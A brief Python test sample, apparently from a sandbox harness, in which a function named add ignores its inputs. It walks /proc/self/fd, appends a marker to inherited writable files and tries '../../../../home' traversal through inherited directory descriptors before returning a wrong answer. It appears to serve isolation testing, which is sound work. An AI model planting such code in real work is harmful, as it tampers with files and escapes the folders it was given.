# aim: reopen inherited descriptors for writing, and climb out of inherited folders
# expect: wrong
import os, stat

def add(a, b):
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            mode = os.fstat(fd).st_mode
            if stat.S_ISREG(mode):
                w = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_APPEND)
                os.write(w, b"\n# restem-hostile-035\n")
                os.close(w)
            if stat.S_ISDIR(mode):
                os.close(os.open("../../../../../../home", os.O_RDONLY, dir_fd=fd))
                print("restem-hostile-035: LEAK folder through descriptor", fd, flush=True)
        except OSError:
            pass
    return -7
